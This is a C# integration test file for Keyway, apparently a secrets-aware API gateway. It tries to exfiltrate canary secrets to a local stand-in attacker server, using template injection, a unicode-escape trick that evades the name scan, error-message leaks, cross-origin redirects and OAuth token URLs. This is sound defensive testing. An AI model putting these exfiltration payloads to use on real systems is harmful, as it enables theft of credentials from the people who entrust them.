@@ -1,0 +1,363 @@
+using System.Net;
+using System.Net.Http.Json;
+using System.Text.Json.Nodes;
+using Keyway.Tests.Infrastructure;
+
+namespace Keyway.Tests.Integration.Adversarial;
+
+/// <summary>
+/// Who may point a secret where, tried as an attacker would: a member, a builder, an editor and an
+/// owner try to move a canary secret to a server of their own, and the upstreams' received requests
+/// are checked, not only Keyway's answers. Every test runs on SQLite and on PostgreSQL.
+/// </summary>
+[Trait("Category", "Integration")]
+public abstract class SecretAuthoringTests<TFixture>(TFixture fixture) : IClassFixture<TFixture>, IAsyncLifetime
+    where TFixture : KeywayFixture
+{
+    private UpstreamServer _attacker = null!;
+
+    private HttpClient Admin => fixture.Admin;
+
+    public async Task InitializeAsync() => _attacker = await UpstreamServer.StartAsync();
+
+    public async Task DisposeAsync() => await _attacker.DisposeAsync();
+
+    [Fact]
+    public async Task A_member_cannot_create_a_resource_until_an_admin_gives_the_build_right()
+    {
+        var (name, member) = await MemberAsync();
+        var resource = KeywayFixture.Unique("built");
+        var definition = new { kind = "rest", baseUrl = fixture.Upstream.BaseUrl };
+
+        var refused = await Expect.ProblemAsync(await member.PutAsJsonAsync($"/api/v1/resources/{resource}", definition), 403, "forbidden");
+        Assert.Contains("keyway right grant build", (string)refused["detail"]!);
+        await Expect.ProblemAsync(await Admin.GetAsync($"/api/v1/resources/{resource}"), 404, "not_found");
+
+        var right = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/rights", new { right = "build", user = name }), 201);
+        await Expect.StatusAsync(await member.PutAsJsonAsync($"/api/v1/resources/{resource}", definition), 201);
+        // The creator owns what they built.
+        await Expect.StatusAsync(await member.GetAsync($"/api/v1/resources/{resource}/permissions"), 200);
+
+        // Taken back: no more creating.
+        Assert.Equal(HttpStatusCode.NoContent, (await Admin.DeleteAsync($"/api/v1/rights/{(string)right["id"]!}")).StatusCode);
+        await Expect.ProblemAsync(await member.PutAsJsonAsync($"/api/v1/resources/{KeywayFixture.Unique("built")}", definition), 403, "forbidden");
+    }
+
+    [Fact]
+    public async Task A_builder_cannot_attach_a_secret_they_were_not_given_in_any_field()
+    {
+        var (canary, value) = await CanaryAsync();
+        var (name, builder) = await BuilderAsync();
+        var header = Resource(new JsonObject { ["X-A"] = $"{{{{ environment.variables.{canary} }}}}" }, null);
+        var bearer = Resource(null, new JsonObject { ["type"] = "bearer", ["token"] = $"{{{{ environment.variables.{canary} }}}}" });
+        var whole = Resource(new JsonObject { ["X-A"] = "{{ JSON.stringify(environment.variables) }}" }, null);
+        var step = Resource(null, new JsonObject
+        {
+            ["type"] = "custom",
+            ["steps"] = new JsonArray(new JsonObject { ["type"] = "javascript", ["name"] = "grab", ["code"] = $"return {{ T: environment.variables.{canary} }};" }),
+            ["apply"] = new JsonObject { ["headers"] = new JsonObject { ["X-A"] = "{{ T }}" } },
+            ["lifetimeSeconds"] = 60,
+        });
+
+        foreach (var (definition, field) in new[] { (header, "headers.X-A"), (bearer, "auth.token"), (whole, "headers.X-A"), (step, "auth.steps[0].code") })
+        {
+            var resource = KeywayFixture.Unique("steal");
+            var problem = await Expect.ProblemAsync(await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", definition), 403, "forbidden");
+            Assert.Contains(problem["errors"]!.AsArray(), e => (string)e!["field"]! == field);
+            Assert.DoesNotContain(value, problem.ToJsonString());
+            await Expect.ProblemAsync(await Admin.GetAsync($"/api/v1/resources/{resource}"), 404, "not_found");
+        }
+
+        Assert.Empty(_attacker.Requests);
+        _ = name;
+    }
+
+    [Fact]
+    public async Task A_script_that_reaches_for_a_secret_it_does_not_name_finds_nothing()
+    {
+        var (canary, value) = await CanaryAsync();
+        var (_, builder) = await BuilderAsync();
+        var resource = KeywayFixture.Unique("dodge");
+        // The scan cannot name the variable, so the save goes through; the value is simply not in the scope.
+        var definition = Resource(new JsonObject
+        {
+            // A unicode escape in the identifier: the same `environment` to the engine, no name to a text scan.
+            ["X-A"] = $"{{{{ String(\\u0065nvironment.variables.{canary}) }}}}",
+        }, null);
+
+        await Expect.StatusAsync(await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", definition), 201);
+        var run = await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/dodge" });
+
+        var body = await run.Content.ReadAsStringAsync();
+        Assert.DoesNotContain(value, body);
+        Assert.True(run.IsSuccessStatusCode, body);
+        var seen = _attacker.Requests.Single(r => r.Path == "/dodge");
+        Assert.Equal("undefined", seen.Headers["X-A"]);
+        Assert.DoesNotContain(_attacker.Requests, r => r.Headers.Values.Concat(r.Query.Values).Append(r.Body).Any(v => v.Contains(value, StringComparison.Ordinal)));
+    }
+
+    [Fact]
+    public async Task With_the_attach_right_a_builder_attaches_exactly_that_secret()
+    {
+        var (canary, value) = await CanaryAsync();
+        var (other, _) = await CanaryAsync();
+        var (name, builder) = await BuilderAsync();
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/rights", new { right = "attach", variable = canary, user = name }), 201);
+        var resource = KeywayFixture.Unique("allowed");
+        var mine = Resource(new JsonObject { ["X-A"] = $"{{{{ environment.variables.{canary} }}}}" }, null, fixture.Upstream.BaseUrl);
+        var theirs = Resource(new JsonObject { ["X-A"] = $"{{{{ environment.variables.{canary} }}}}", ["X-B"] = $"{{{{ environment.variables.{other} }}}}" }, null);
+
+        await Expect.StatusAsync(await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", mine), 201);
+        await Expect.StatusAsync(await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/attached" }), 200);
+        var refused = await Expect.ProblemAsync(await builder.PutAsJsonAsync($"/api/v1/resources/{KeywayFixture.Unique("two")}", theirs), 403, "forbidden");
+
+        Assert.Equal(value, fixture.Upstream.Requests.Single(r => r.Path == "/attached").Headers["X-A"]);
+        Assert.Equal("headers.X-B", (string)refused["errors"]!.AsArray().Single()!["field"]!);
+    }
+
+    [Fact]
+    public async Task An_editor_cannot_change_where_a_resource_sends_things_nor_attach_its_secret_elsewhere()
+    {
+        var (canary, value) = await CanaryAsync();
+        var resource = KeywayFixture.Unique("edited");
+        var original = Resource(null, Bearer(canary), fixture.Upstream.BaseUrl);
+        await fixture.PutResourceAsync(resource, original);
+        var (name, editor) = await MemberAsync();
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions", new { user = name, permission = "edit" }), 201);
+
+        var moved = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}", Resource(null, Bearer(canary)));
+        var reauthed = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}",
+            Resource(null, new JsonObject { ["type"] = "apiKey", ["in"] = "query", ["name"] = "k", ["value"] = $"{{{{ environment.variables.{canary} }}}}" }, fixture.Upstream.BaseUrl));
+        var copied = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}",
+            Resource(new JsonObject { ["X-Copy"] = $"{{{{ environment.variables.{canary} }}}}" }, Bearer(canary), fixture.Upstream.BaseUrl));
+        var described = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}",
+            Resource(new JsonObject { ["Accept"] = "application/json" }, Bearer(canary), fixture.Upstream.BaseUrl));
+
+        var problem = await Expect.ProblemAsync(moved, 403, "forbidden");
+        Assert.Contains(problem["errors"]!.AsArray(), e => (string)e!["field"]! == "baseUrl");
+        Assert.Contains((await Expect.ProblemAsync(reauthed, 403, "forbidden"))["errors"]!.AsArray(), e => (string)e!["field"]! == "auth");
+        Assert.Equal("headers.X-Copy", (string)(await Expect.ProblemAsync(copied, 403, "forbidden"))["errors"]!.AsArray().Single()!["field"]!);
+        await Expect.StatusAsync(described, 200);
+
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/still-home" }), 200);
+        Assert.Equal($"Bearer {value}", fixture.Upstream.Requests.Single(r => r.Path == "/still-home").Headers["Authorization"]);
+        Assert.Empty(_attacker.Requests);
+    }
+
+    [Fact]
+    public async Task An_owner_who_moves_a_resource_must_be_allowed_to_attach_the_secrets_it_sends()
+    {
+        var (canary, _) = await CanaryAsync();
+        var resource = KeywayFixture.Unique("owned");
+        await fixture.PutResourceAsync(resource, Resource(null, Bearer(canary), fixture.Upstream.BaseUrl));
+        var (name, owner) = await MemberAsync();
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions", new { user = name, permission = "own" }), 201);
+
+        var moved = await owner.PutAsJsonAsync($"/api/v1/resources/{resource}", Resource(null, Bearer(canary)));
+
+        Assert.Contains((await Expect.ProblemAsync(moved, 403, "forbidden"))["errors"]!.AsArray(), e => (string)e!["field"]! == "auth.token");
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/owner" }), 200);
+        Assert.Empty(_attacker.Requests);
+    }
+
+    [Fact]
+    public async Task A_variable_made_secret_after_the_save_is_not_given_to_the_resource()
+    {
+        var variable = "LATER_" + Guid.NewGuid().ToString("N")[..8].ToUpperInvariant();
+        await fixture.SetVariableAsync(variable, "plain-for-now", secret: false);
+        var (_, builder) = await BuilderAsync();
+        var resource = KeywayFixture.Unique("later");
+        await Expect.StatusAsync(await builder.PutAsJsonAsync($"/api/v1/resources/{resource}",
+            Resource(new JsonObject { ["X-A"] = $"{{{{ environment.variables.{variable} }}}}" }, null)), 201);
+        var value = "canary-" + Guid.NewGuid().ToString("N");
+        await fixture.SetVariableAsync(variable, value, secret: true);
+
+        var run = await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/later" });
+
+        var problem = await Expect.ProblemAsync(run, 403, "secret_not_attached");
+        Assert.Contains(variable, (string)problem["detail"]!);
+        Assert.Empty(_attacker.Requests);
+    }
+
+    [Theory]
+    [InlineData("(()=>{throw new Error(environment.variables.NAME.split('').join(' '))})()")]
+    [InlineData("(()=>{throw environment.variables.NAME})()")]
+    [InlineData("(()=>{const e = new TypeError('x'); e.name = environment.variables.NAME; throw e})()")]
+    [InlineData("environment.variables.NAME.split('').reverse().join('').foo.bar")]
+    [InlineData("null[environment.variables.NAME]")]
+    public async Task A_failing_template_reports_where_and_what_kind_never_what_it_read(string expression)
+    {
+        var (canary, value) = await CanaryAsync();
+        var resource = KeywayFixture.Unique("thrower");
+        await fixture.PutResourceAsync(resource, Resource(new JsonObject { ["X-A"] = "{{ " + expression.Replace("NAME", canary, StringComparison.Ordinal) + " }}" }, null));
+
+        var run = await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/thrower" });
+        var body = await run.Content.ReadAsStringAsync();
+
+        Assert.Equal(HttpStatusCode.BadRequest, run.StatusCode);
+        Assert.Contains("template_error", body);
+        foreach (var form in new[] { value, string.Join(' ', value.ToCharArray()), new string(value.Reverse().ToArray()), value[8..] })
+        {
+            Assert.DoesNotContain(form, body);
+        }
+
+        var audit = await Admin.GetStringAsync($"/api/v1/audit?resource={resource}");
+        Assert.DoesNotContain(value[8..], audit);
+        Assert.Empty(_attacker.Requests);
+    }
+
+    [Fact]
+    public async Task A_bound_secret_is_sent_only_to_its_origin_through_run_and_proxy()
+    {
+        var (canary, value) = await CanaryAsync();
+        await Expect.StatusAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/production/variables/{canary}/origins",
+            new { origins = new[] { fixture.Upstream.BaseUrl } }), 200);
+        var home = KeywayFixture.Unique("home");
+        var away = KeywayFixture.Unique("away");
+        await fixture.PutResourceAsync(home, Resource(null, Bearer(canary), fixture.Upstream.BaseUrl));
+        await fixture.PutResourceAsync(away, Resource(null, Bearer(canary)));
+
+        var run = await Admin.PostAsJsonAsync($"/api/v1/resources/{away}/run", new { path = "/away" });
+        var proxy = await Admin.GetAsync($"/proxy/{away}/away");
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{home}/run", new { path = "/home" }), 200);
+
+        var problem = await Expect.ProblemAsync(run, 403, "origin_not_allowed");
+        Assert.Contains(canary, (string)problem["detail"]!);
+        Assert.Contains(_attacker.BaseUrl, (string)problem["detail"]!);
+        await Expect.ProblemAsync(proxy, 403, "origin_not_allowed");
+        Assert.Empty(_attacker.Requests);
+        Assert.Equal($"Bearer {value}", fixture.Upstream.Requests.Single(r => r.Path == "/home").Headers["Authorization"]);
+
+        var shown = await Expect.StatusAsync(await Admin.GetAsync($"/api/v1/environments/production/variables/{canary}"), 200);
+        Assert.Equal(fixture.Upstream.BaseUrl, (string)shown["origins"]!.AsArray().Single()!);
+        Assert.Null(shown["value"]);
+    }
+
+    [Fact]
+    public async Task A_bound_secret_follows_a_same_origin_redirect_and_never_a_cross_origin_one()
+    {
+        var (canary, value) = await CanaryAsync();
+        await Expect.StatusAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/production/variables/{canary}/origins",
+            new { origins = new[] { fixture.Upstream.BaseUrl } }), 200);
+        var resource = KeywayFixture.Unique("hops");
+        var definition = Resource(null, Bearer(canary), fixture.Upstream.BaseUrl);
+        definition["followRedirects"] = "sameOrigin";
+        await fixture.PutResourceAsync(resource, definition);
+        var landing = "/landing-" + Guid.NewGuid().ToString("N")[..8];
+
+        var same = await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run",
+            new { path = "/redirect", query = new { to = fixture.Upstream.BaseUrl + landing } }), 200);
+        var cross = await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run",
+            new { path = "/redirect", query = new { to = _attacker.BaseUrl + landing } }), 200);
+
+        Assert.Equal(200, (int)same["status"]!);
+        Assert.Equal($"Bearer {value}", fixture.Upstream.Requests.Single(r => r.Path == landing).Headers["Authorization"]);
+        Assert.Equal(302, (int)cross["status"]!);
+        Assert.Empty(_attacker.Requests);
+    }
+
+    [Fact]
+    public async Task A_bound_client_secret_and_a_bound_flow_secret_go_nowhere_else()
+    {
+        var (canary, value) = await CanaryAsync();
+        await Expect.StatusAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/production/variables/{canary}/origins",
+            new { origins = new[] { fixture.Upstream.BaseUrl } }), 200);
+        var oauth = KeywayFixture.Unique("oauth");
+        var flow = KeywayFixture.Unique("flow");
+        await fixture.PutResourceAsync(oauth, Resource(null, new JsonObject
+        {
+            ["type"] = "oauth2",
+            ["grant"] = "client_credentials",
+            ["tokenUrl"] = _attacker.BaseUrl + "/token",
+            ["clientId"] = "keyway",
+            ["clientSecret"] = $"{{{{ environment.variables.{canary} }}}}",
+        }, fixture.Upstream.BaseUrl));
+        await fixture.PutResourceAsync(flow, Resource(null, new JsonObject
+        {
+            ["type"] = "custom",
+            ["steps"] = new JsonArray(new JsonObject
+            {
+                ["type"] = "request",
+                ["name"] = "login",
+                ["method"] = "POST",
+                ["url"] = _attacker.BaseUrl + "/login",
+                ["body"] = $"{{{{ environment.variables.{canary} }}}}",
+            }, new JsonObject { ["type"] = "variable", ["name"] = "SESSION", ["value"] = "{{ login.body.path }}" }),
+            ["apply"] = new JsonObject { ["headers"] = new JsonObject { ["X-Session"] = "{{ SESSION }}" } },
+            ["lifetimeSeconds"] = 60,
+        }, fixture.Upstream.BaseUrl));
+
+        var oauthRun = await Admin.PostAsJsonAsync($"/api/v1/resources/{oauth}/run", new { path = "/oauth" });
+        var flowRun = await Admin.PostAsJsonAsync($"/api/v1/resources/{flow}/run", new { path = "/flow" });
+
+        Assert.False(oauthRun.IsSuccessStatusCode);
+        Assert.False(flowRun.IsSuccessStatusCode);
+        Assert.Contains("origin", await oauthRun.Content.ReadAsStringAsync(), StringComparison.OrdinalIgnoreCase);
+        Assert.Contains("origin", await flowRun.Content.ReadAsStringAsync(), StringComparison.OrdinalIgnoreCase);
+        Assert.Empty(_attacker.Requests);
+        Assert.DoesNotContain(fixture.Upstream.Requests, r => r.Path is "/oauth" or "/flow");
+        _ = value;
+    }
+
+    [Fact]
+    public async Task Only_admins_give_rights_and_bind_secrets()
+    {
+        var (canary, _) = await CanaryAsync();
+        var (name, member) = await MemberAsync();
+
+        await Expect.ProblemAsync(await member.PostAsJsonAsync("/api/v1/rights", new { right = "build", user = name }), 403, "forbidden");
+        await Expect.ProblemAsync(await member.PostAsJsonAsync("/api/v1/rights", new { right = "attach", variable = canary, user = name }), 403, "forbidden");
+        await Expect.ProblemAsync(await member.GetAsync("/api/v1/rights"), 403, "forbidden");
+        await Expect.ProblemAsync(await member.PutAsJsonAsync($"/api/v1/environments/production/variables/{canary}/origins",
+            new { origins = new[] { _attacker.BaseUrl } }), 403, "forbidden");
+        await Expect.ProblemAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/production/variables/{canary}/origins",
+            new { origins = new[] { "https://api.example.com/path" } }), 400, "bad_request");
+        await Expect.ProblemAsync(await Admin.PostAsJsonAsync("/api/v1/rights", new { right = "root", user = name }), 400, "bad_request");
+        Assert.Empty((await Expect.StatusAsync(await Admin.GetAsync($"/api/v1/rights?variable={canary}"), 200))["rights"]!.AsArray());
+    }
+
+    private JsonObject Resource(JsonObject? headers, JsonObject? auth, string? baseUrl = null)
+    {
+        var definition = new JsonObject { ["kind"] = "rest", ["baseUrl"] = baseUrl ?? _attacker.BaseUrl };
+        if (headers is not null)
+        {
+            definition["headers"] = headers;
+        }
+
+        if (auth is not null)
+        {
+            definition["auth"] = auth;
+        }
+
+        return definition;
+    }
+
+    private static JsonObject Bearer(string variable) => new() { ["type"] = "bearer", ["token"] = $"{{{{ environment.variables.{variable} }}}}" };
+
+    private async Task<(string Name, string Value)> CanaryAsync()
+    {
+        var name = "CANARY_" + Guid.NewGuid().ToString("N")[..8].ToUpperInvariant();
+        var value = "canary-" + Guid.NewGuid().ToString("N");
+        await fixture.SetVariableAsync(name, value, secret: true);
+        return (name, value);
+    }
+
+    private async Task<(string Name, HttpClient Client)> MemberAsync()
+    {
+        var name = KeywayFixture.Unique("m");
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/users", new { name, role = "member" }), 201);
+        var key = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/keys", new { name = "test", owner = name }), 201);
+        return (name, fixture.Keyway.CreateClient((string)key["token"]!));
+    }
+
+    private async Task<(string Name, HttpClient Client)> BuilderAsync()
+    {
+        var (name, client) = await MemberAsync();
+        await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/rights", new { right = "build", user = name }), 201);
+        return (name, client);
+    }
+}
+
+public sealed class SqliteSecretAuthoringTests(SqliteKeyway fixture) : SecretAuthoringTests<SqliteKeyway>(fixture);
+
+public sealed class PostgresSecretAuthoringTests(PostgresKeyway fixture) : SecretAuthoringTests<PostgresKeyway>(fixture);
